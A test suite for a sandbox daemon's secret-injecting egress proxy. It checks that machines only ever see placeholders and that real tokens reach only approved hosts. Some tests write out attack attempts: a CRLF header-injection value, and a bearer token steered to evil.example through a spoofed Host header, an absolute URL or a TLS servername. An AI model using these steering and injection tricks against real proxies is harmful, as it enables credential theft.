import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { readFileSync, writeFileSync } from 'node:fs';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { type IncomingHttpHeaders } from 'node:http';
import { createServer as createHttpsServer, type Server } from 'node:https';
import { createServer as createTcpServer, type Server as TcpServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import packet from 'dns-packet';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { cleanupDataDir, HANGAR, http, makeDataDir, startDaemon, type TestDaemon } from './helpers/daemon.ts';
import { serveNodeImage, type NodeImageSource } from './helpers/node-image.ts';
import { makeTestCa, makeTestCert } from './helpers/test-certs.ts';

// Transparent mode of app secrets, end to end. Two HTTPS upstreams with their own test CA listen
// on loopback addresses (127.N.77.1 and .2, N the run's HANGAR_TEST_NET) port 443; a resolver on
// loopback, the daemon's dns_upstream, names them api.test and other.test. Inside real machines
// (the Node test image) a program fetches https://api.test/ with only the placeholder in its env:
// the app's DNS steers the name to the gateway's egress proxy, which the machine trusts through
// the CA bundle bound into it, and the upstream sees the real value. The daemon is told to trust
// the test CA and to allow 127.N.77.0/24 as a destination; every other private address stays refused.

const REAL = 'ghp_REAL-value-4f9c2d7e1b';
const OTHER_REAL = 'sk_OTHER-value-8a1e';
const THIEF_REAL = 'thief-own-value-77';
const net = Number(process.env.HANGAR_TEST_NET ?? 20);
const API_IP = `127.${net}.77.1`;
const OTHER_IP = `127.${net}.77.2`;
/** Serves a certificate from a CA no one trusts. */
const UNTRUSTED_IP = `127.${net}.77.3`;

type Seen = { url: string; headers: IncomingHttpHeaders };

let dataDir: string;
let d: TestDaemon;
let src: NodeImageSource;
let certDir: string;
let apiUpstream: Server;
let otherUpstream: Server;
let untrustedUpstream: Server;
const seenUntrusted: Seen[] = [];
let dns: UdpSocket;
let dnsTcp: TcpServer;
const seenApi: Seen[] = [];
const seenOther: Seen[] = [];
let machine: string;
let daemonArgs: string[];
/** What daemons before the current one wrote. */
let earlierLogs = '';
let placeholder: string;

function recordingServer(cert: { certPem: string; keyPem: string }, into: Seen[]): Server {
  return createHttpsServer({ cert: cert.certPem, key: cert.keyPem }, (req, res) => {
    req.resume();
    req.on('end', () => {
      into.push({ url: req.url!, headers: req.headers });
      // Echoes the credential back, as a careless (or hostile) host might.
      res.writeHead(200, { 'content-type': 'text/plain', 'x-echo': req.headers.authorization ?? '' });
      res.end(`upstream ${req.headers.host} ${req.url}`);
    });
  });
}

function answer(msg: Buffer): Buffer {
  const query = packet.decode(msg);
  const question = query.questions![0]!;
  const ip = ({ 'api.test': API_IP, 'other.test': OTHER_IP, 'untrusted.test': UNTRUSTED_IP } as Record<string, string>)[question.name];
  return packet.encode({
    id: query.id, type: 'response', flags: packet.RECURSION_DESIRED | packet.RECURSION_AVAILABLE | (ip ? 0 : 3),
    questions: [question],
    answers: ip && question.type === 'A' ? [{ name: question.name, type: 'A', class: 'IN', ttl: 5, data: ip }] : [],
  } as packet.Packet);
}

before(async () => {
  certDir = await mkdtemp(join(tmpdir(), 'hangar-secrets-'));
  const ca = await makeTestCa('Secrets Test CA');
  await writeFile(join(certDir, 'ca.pem'), ca.certPem);
  const cert = await makeTestCert(ca, ['api.test', 'other.test']);
  apiUpstream = recordingServer(cert, seenApi);
  otherUpstream = recordingServer(cert, seenOther);
  await new Promise<void>((r) => apiUpstream.listen(443, API_IP, r));
  await new Promise<void>((r) => otherUpstream.listen(443, OTHER_IP, r));
  untrustedUpstream = recordingServer(await makeTestCert(await makeTestCa('Untrusted CA'), ['untrusted.test']), seenUntrusted);
  await new Promise<void>((r) => untrustedUpstream.listen(443, UNTRUSTED_IP, r));

  dns = createSocket('udp4');
  dns.on('message', (msg, from) => dns.send(answer(msg), from.port, from.address));
  await new Promise<void>((r) => dns.bind(0, '127.0.0.1', r));
  dnsTcp = createTcpServer((conn) => {
    conn.once('data', (chunk) => {
      const reply = answer(chunk.subarray(2, 2 + chunk.readUInt16BE(0)));
      const length = Buffer.alloc(2);
      length.writeUInt16BE(reply.length);
      conn.end(Buffer.concat([length, reply]));
    });
  }).listen(dns.address().port, '127.0.0.1');

  src = await serveNodeImage();
  dataDir = await makeDataDir();
  writeFileSync(join(dataDir, 'config.json'), JSON.stringify({ dns_upstream: `127.0.0.1:${dns.address().port}` }));
  daemonArgs = [...src.daemonArgs, '--tokenizer-allow-cidr', `127.${net}.77.0/24`, '--tokenizer-upstream-ca', join(certDir, 'ca.pem')];
  d = await startDaemon(dataDir, daemonArgs);
  await d.client.images.pull(src.image);
  await d.client.apps.create('sec');
  await d.client.apps.create('thief');
});

after(async () => {
  await d?.kill().catch(() => undefined);
  if (dataDir) await cleanupDataDir(dataDir);
  await src?.stop();
  apiUpstream?.close();
  otherUpstream?.close();
  untrustedUpstream?.close();
  dns?.close();
  dnsTcp?.close();
  if (certDir) await rm(certDir, { recursive: true, force: true });
});

/** Runs a Node script in the machine; its stdout. */
async function nodeIn(app: string, id: string, script: string): Promise<string> {
  const r = await d.client.machines.exec(app, id, ['node', '-e', script], { timeoutS: 30 });
  assert.equal(r.exit_code, 0, `${r.stdout}\n${r.stderr}`);
  return r.stdout.trim();
}

/** A fetch from inside the machine; prints the status and body. */
function fetchScript(url: string, headers: string): string {
  return `fetch(${JSON.stringify(url)}, { headers: ${headers} }).then(async (r) => console.log(r.status, await r.text()), (e) => { console.log('error', e.cause?.code ?? e.message); process.exitCode = 0; })`;
}

describe('app secrets API', () => {
  it('sets a secret and never answers with its value', async () => {
    const set = await http(d, 'POST', '/v1/apps/sec/secrets', { name: 'GH_TOKEN', value: REAL, hosts: ['API.test'] });
    assert.equal(set.status, 201, set.text);
    assert.ok(!set.text.includes(REAL));
    assert.deepEqual(set.body.hosts, ['api.test']);
    assert.match(set.body.placeholder, /^hangar-sealed-[0-9a-f]{40}$/);
    placeholder = set.body.placeholder;
    const other = await d.client.secrets.set('sec', { name: 'OTHER_KEY', value: OTHER_REAL, hosts: ['other.test'], inject: { header: 'X-Api-Key', format: '%s' } });
    assert.equal(other.inject?.header, 'X-Api-Key');
    const list = await http(d, 'GET', '/v1/apps/sec/secrets');
    assert.equal(list.status, 200);
    assert.deepEqual(list.body.secrets.map((s: { name: string }) => s.name), ['GH_TOKEN', 'OTHER_KEY']);
    assert.ok(!list.text.includes(REAL) && !list.text.includes(OTHER_REAL));
    // Setting it again keeps the placeholder, so machines need no restart for a new value.
    const again = await d.client.secrets.set('sec', { name: 'GH_TOKEN', value: REAL, hosts: ['api.test'] });
    assert.equal(again.placeholder, placeholder);
  });

  it('refuses a value that cannot go into a header without echoing it, and names unknown secrets', async () => {
    const bad = await http(d, 'POST', '/v1/apps/sec/secrets', { name: 'BAD', value: `${REAL}\r\nX-Evil: 1`, hosts: ['api.test'] });
    assert.equal(bad.status, 400);
    assert.equal(bad.body.code, 'validation_failed');
    assert.ok(!bad.text.includes(REAL));
    const host = await http(d, 'POST', '/v1/apps/sec/secrets', { name: 'BAD', value: 'x', hosts: ['127.0.0.1'] });
    assert.equal(host.status, 400);
    const reserved = await http(d, 'POST', '/v1/apps/sec/secrets', { name: 'SSL_CERT_FILE', value: 'x', hosts: ['api.test'] });
    assert.equal(reserved.status, 400);
    const gone = await http(d, 'DELETE', '/v1/apps/sec/secrets/NOPE');
    assert.equal(gone.status, 404);
    assert.equal(gone.body.code, 'secret_not_found');
    assert.ok(gone.body.hint);
    const noApp = await http(d, 'POST', '/v1/apps/nope/secrets', { name: 'A', value: 'x', hosts: ['api.test'] });
    assert.equal(noApp.body.code, 'app_not_found');
  });

  it('keeps values sealed at rest and the egress CA key private', async () => {
    const db = await readFile(join(dataDir, 'state.db'));
    const wal = await readFile(join(dataDir, 'state.db-wal')).catch(() => Buffer.alloc(0));
    assert.ok(!db.includes(REAL) && !wal.includes(REAL), 'state.db holds no plain value');
    assert.equal((await stat(join(dataDir, 'egress-ca', 'ca-key.pem'))).mode & 0o777, 0o600);
  });
});

describe('a machine of an app with secrets', () => {
  before(async () => {
    const files = await http(d, 'POST', '/v1/apps/sec/machines', { config: { image: src.image, init: { cmd: ['sleep', 'inf'] }, files: [{ guest_path: '/x', secret_name: 'NOPE' }] } });
    assert.equal(files.status, 404);
    assert.equal(files.body.code, 'secret_not_found');
    const m = await d.client.machines.create('sec', {
      config: { image: src.image, init: { cmd: ['sleep', 'inf'] }, files: [{ guest_path: '/run/secrets/gh', secret_name: 'GH_TOKEN' }] },
    });
    machine = m.id;
  });

  it('sees only placeholders, in its env and in files that name a secret', async () => {
    const r = await d.client.machines.exec('sec', machine, ['sh', '-c', 'echo "$GH_TOKEN"; cat /run/secrets/gh; echo; tr "\\0" "\\n" </proc/1/environ | grep -c hangar-sealed-']);
    assert.equal(r.exit_code, 0, r.stderr);
    const [env, file, count] = r.stdout.trim().split('\n');
    assert.equal(env, placeholder);
    assert.equal(file, placeholder);
    assert.equal(count, '2');
    assert.ok(!r.stdout.includes(REAL));
  });

  it('fetches https://api.test with its placeholder and the upstream sees the real value', async () => {
    const out = await nodeIn('sec', machine, fetchScript('https://api.test/user', '{ authorization: `token ${process.env.GH_TOKEN}` }'));
    assert.equal(out, '200 upstream api.test /user');
    const last = seenApi.at(-1)!;
    assert.equal(last.headers.authorization, `token ${REAL}`);
    assert.equal(last.headers['x-api-key'], undefined, "another host's secret is not injected");
    const echoed = await nodeIn('sec', machine, `fetch('https://api.test/echo', { headers: { authorization: 'token ' + process.env.GH_TOKEN } }).then((r) => console.log(r.headers.get('x-echo')))`);
    assert.equal(echoed, `token ${placeholder}`, 'a value echoed in response headers comes back as the placeholder');
  });

  it('puts the value into Basic credentials and plain http:// requests go on over HTTPS', async () => {
    const basic = Buffer.from(`x-access-token:${placeholder}`).toString('base64');
    const out = await nodeIn('sec', machine, fetchScript('http://api.test/basic', `{ authorization: 'Basic ${basic}' }`));
    assert.equal(out, '200 upstream api.test /basic');
    assert.equal(seenApi.at(-1)!.headers.authorization, `Basic ${Buffer.from(`x-access-token:${REAL}`).toString('base64')}`);
  });

  it('sending its placeholder to a host the secret does not name gains nothing', async () => {
    const out = await nodeIn('sec', machine, fetchScript('https://other.test/leak', '{ authorization: `Bearer ${process.env.GH_TOKEN}` }'));
    assert.equal(out, '200 upstream other.test /leak');
    const last = seenOther.at(-1)!;
    assert.equal(last.headers.authorization, `Bearer ${placeholder}`);
    // other.test's own secret is injected where the request had no such header.
    assert.equal(last.headers['x-api-key'], OTHER_REAL);
  });

  it('cannot be steered elsewhere: a Host that is not the TLS name or an absolute URL is refused, and other names get no certificate', async () => {
    const out = await nodeIn('sec', machine, `require('https').get({ host: 'api.test', servername: 'api.test', path: '/', headers: { host: 'evil.example', authorization: 'Bearer ' + process.env.GH_TOKEN } }, (r) => { let b = ''; r.on('data', (c) => b += c); r.on('end', () => console.log(r.statusCode, JSON.parse(b).code)); })`);
    assert.equal(out, '403 host_not_allowed');
    const absolute = await nodeIn('sec', machine, `const s = require('net').connect(80, 'api.test', () => s.write('GET http://evil.example/ HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + process.env.GH_TOKEN + '\\r\\nConnection: close\\r\\n\\r\\n')); let b = ''; s.on('data', (c) => b += c); s.on('end', () => console.log(b.split('\\r\\n')[0]))`);
    assert.equal(absolute, 'HTTP/1.1 400 Bad Request');
    const tls = await nodeIn('sec', machine, `require('tls').connect({ host: 'api.test', port: 443, servername: 'evil.example' }).on('secureConnect', () => console.log('connected')).on('error', (e) => console.log('refused'))`);
    assert.equal(tls, 'refused');
  });

  it('never sends the value to a host whose certificate does not verify', async () => {
    await d.client.secrets.set('sec', { name: 'UNTRUSTED', value: 'untrusted-value', hosts: ['untrusted.test'] });
    const out = await nodeIn('sec', machine, fetchScript('https://untrusted.test/', "{ authorization: 'Bearer ' + process.env.GH_TOKEN + (process.env.UNTRUSTED ?? '') }"));
    assert.match(out, /^502 .*"code":"upstream_unreachable"/);
    assert.equal(seenUntrusted.length, 0);
    await d.client.secrets.unset('sec', 'UNTRUSTED');
  });

  it('gets a secret set after it was created at its next start, and loses a removed one', async () => {
    await d.client.secrets.set('sec', { name: 'LATE', value: 'late-value', hosts: ['api.test'] });
    const before = await d.client.machines.exec('sec', machine, ['sh', '-c', 'echo "${LATE:-unset}"']);
    assert.equal(before.stdout.trim(), 'unset');
    await d.client.machines.stop('sec', machine);
    await d.client.machines.wait('sec', machine, 'stopped', { timeoutS: 30 });
    await d.client.machines.start('sec', machine);
    await d.client.machines.wait('sec', machine, 'started', { timeoutS: 30 });
    const after = await d.client.machines.exec('sec', machine, ['sh', '-c', 'echo "$LATE"']);
    assert.match(after.stdout.trim(), /^hangar-sealed-/);
    await d.client.secrets.unset('sec', 'LATE');
    await d.client.machines.stop('sec', machine);
    await d.client.machines.wait('sec', machine, 'stopped', { timeoutS: 30 });
    await d.client.machines.start('sec', machine);
    await d.client.machines.wait('sec', machine, 'started', { timeoutS: 30 });
    const gone = await d.client.machines.exec('sec', machine, ['sh', '-c', 'echo "${LATE:-unset}"; echo "$GH_TOKEN"']);
    assert.deepEqual(gone.stdout.trim().split('\n'), ['unset', placeholder]);
  });
});

describe('another app', () => {
  it("cannot use the first app's placeholder, even towards the same host", async () => {
    await d.client.secrets.set('thief', { name: 'OWN', value: THIEF_REAL, hosts: ['api.test'] });
    const m = await d.client.machines.create('thief', { config: { image: src.image, init: { cmd: ['sleep', 'inf'] } } });
    const out = await nodeIn('thief', m.id, fetchScript('https://api.test/steal', `{ authorization: 'Bearer ${placeholder}', 'x-own': process.env.OWN }`));
    assert.equal(out, '200 upstream api.test /steal');
    const last = seenApi.at(-1)!;
    assert.equal(last.headers.authorization, `Bearer ${placeholder}`);
    assert.equal(last.headers['x-own'], THIEF_REAL);
  });

  it('with egress deny, reaches the hosts its secrets name and nothing else', async () => {
    await d.client.apps.create('closed', { settings: { egress: { policy: 'deny' } } });
    await d.client.secrets.set('closed', { name: 'TOKEN', value: 'closed-value', hosts: ['api.test'] });
    const m = await d.client.machines.create('closed', { config: { image: src.image, init: { cmd: ['sleep', 'inf'] } } });
    const out = await nodeIn('closed', m.id, fetchScript('https://api.test/closed', "{ authorization: 'Bearer ' + process.env.TOKEN }"));
    assert.equal(out, '200 upstream api.test /closed');
    assert.equal(seenApi.at(-1)!.headers.authorization, 'Bearer closed-value');
    const other = await nodeIn('closed', m.id, fetchScript('https://other.test/', '{}'));
    assert.match(other, /^error /);
  });

  it('running before its first secret, keeps resolving the real host until its next start', async () => {
    await d.client.apps.create('before');
    const m = await d.client.machines.create('before', { config: { image: src.image, init: { cmd: ['sleep', 'inf'] } } });
    await d.client.secrets.set('before', { name: 'TOKEN', value: 'before-value', hosts: ['api.test'] });
    const lookup = "require('dns').promises.lookup('api.test').then((a) => console.log(a.address))";
    assert.equal(await nodeIn('before', m.id, lookup), API_IP, 'it does not trust the egress CA yet, so it is not steered to it');
    await d.client.machines.restart('before', m.id);
    await d.client.machines.wait('before', m.id, 'started', { timeoutS: 30 });
    const gateway = await nodeIn('before', m.id, lookup);
    assert.notEqual(gateway, API_IP);
    const out = await nodeIn('before', m.id, fetchScript('https://api.test/before', "{ authorization: 'Bearer ' + process.env.TOKEN }"));
    assert.equal(out, '200 upstream api.test /before');
    assert.equal(seenApi.at(-1)!.headers.authorization, 'Bearer before-value');
  });

  it("extends an image's own CA bundle, read-only in the machine, and leaves the image's file as it was", async () => {
    const own = (await makeTestCa('Image Own CA')).certPem;
    const m = await d.client.machines.create('closed', {
      config: { image: src.image, init: { cmd: ['sleep', 'inf'] }, files: [{ guest_path: '/etc/ssl/certs/ca-certificates.crt', raw_value: Buffer.from(own).toString('base64') }] },
    });
    const egressCa = readFileSync(join(dataDir, 'egress-ca', 'ca.pem'), 'utf8');
    const r = await d.client.machines.exec('closed', m.id, ['sh', '-c', 'cat /etc/ssl/certs/ca-certificates.crt; echo x >> /etc/ssl/certs/ca-certificates.crt && echo WRITABLE; echo "$SSL_CERT_FILE"']);
    assert.equal(r.stdout, `${own}${egressCa}/etc/ssl/certs/ca-certificates.crt\n`);
    const underneath = await http(d, 'GET', `/v1/apps/closed/machines/${m.id}/files?path=/etc/ssl/certs/ca-certificates.crt`);
    assert.equal(underneath.text, own, "the machine's disk keeps the image's file");
  });

  it('without secrets, is not steered and gets no egress CA', async () => {
    await d.client.apps.create('plain');
    const m = await d.client.machines.create('plain', { config: { image: src.image, init: { cmd: ['sleep', 'inf'] } } });
    const r = await d.client.machines.exec('plain', m.id, ['sh', '-c', 'echo "${SSL_CERT_FILE:-none}"; test -e /etc/ssl/certs/ca-certificates.crt && echo bundle || echo no-bundle']);
    assert.deepEqual(r.stdout.trim().split('\n'), ['none', 'no-bundle']);
  });
});

describe('the CLI and MCP', () => {
  it('hangar secrets set reads the value from stdin; list and unset never show it', () => {
    const env = { ...process.env, HANGAR_DATA_DIR: dataDir };
    const set = spawnSync(HANGAR, ['secrets', 'set', 'sec', 'CLI_TOKEN', '--host', 'api.test', '--header', 'X-Cli'], { input: 'cli-value-123\n', encoding: 'utf8', env, timeout: 60_000 });
    assert.equal(set.status, 0, set.stderr);
    assert.match(set.stdout, /CLI_TOKEN set for api\.test; machines see hangar-sealed-/);
    const list = spawnSync(HANGAR, ['secrets', 'list', 'sec'], { encoding: 'utf8', env, timeout: 60_000 });
    assert.equal(list.status, 0, list.stderr);
    assert.match(list.stdout, /CLI_TOKEN\s+api\.test\s+X-Cli: Bearer %s/);
    assert.ok(!list.stdout.includes('cli-value-123') && !list.stdout.includes(REAL));
    const unset = spawnSync(HANGAR, ['secrets', 'unset', 'sec', 'CLI_TOKEN'], { encoding: 'utf8', env, timeout: 60_000 });
    assert.equal(unset.status, 0, unset.stderr);
  });

  it('a robot sets a secret over MCP and can list it, but never read the value back', async () => {
    const client = new Client({ name: 'secrets-test', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${d.url}/mcp`), { requestInit: { headers: { authorization: `Bearer ${d.token}` } } }));
    try {
      const set = (await client.callTool({ name: 'secret_set', arguments: { app: 'sec', name: 'ROBOT_KEY', value: 'robot-value-42', hosts: ['api.test'] } })) as CallToolResult;
      assert.ok(!set.isError, JSON.stringify(set.content));
      const list = (await client.callTool({ name: 'secret_list', arguments: { app: 'sec' } })) as CallToolResult;
      assert.ok(!list.isError);
      const text = JSON.stringify(list);
      assert.ok(text.includes('ROBOT_KEY') && !text.includes('robot-value-42') && !text.includes(REAL));
      const bad = (await client.callTool({ name: 'secret_set', arguments: { app: 'sec', name: 'X', value: 'v\nw', hosts: ['api.test'] } })) as CallToolResult;
      assert.ok(bad.isError);
      const unset = (await client.callTool({ name: 'secret_unset', arguments: { app: 'sec', name: 'ROBOT_KEY' } })) as CallToolResult;
      assert.ok(!unset.isError);
    } finally {
      await client.close();
    }
  });
});

describe('the daemon', () => {
  it('after a restart, keeps the secrets and steers running machines as before', async () => {
    earlierLogs += d.output();
    await d.stop();
    d = await startDaemon(dataDir, daemonArgs);
    const out = await nodeIn('sec', machine, fetchScript('https://api.test/again', '{ authorization: `token ${process.env.GH_TOKEN}` }'));
    assert.equal(out, '200 upstream api.test /again');
    assert.equal(seenApi.at(-1)!.headers.authorization, `token ${REAL}`);
  });

  it('never wrote a real value to its log', () => {
    const log = earlierLogs + d.output();
    for (const value of [REAL, OTHER_REAL, THIEF_REAL, 'cli-value-123', 'robot-value-42']) assert.ok(!log.includes(value), `the log has ${value.slice(0, 6)}…`);
    assert.ok(!readFileSync(join(dataDir, 'state.db')).includes(REAL));
  });
});
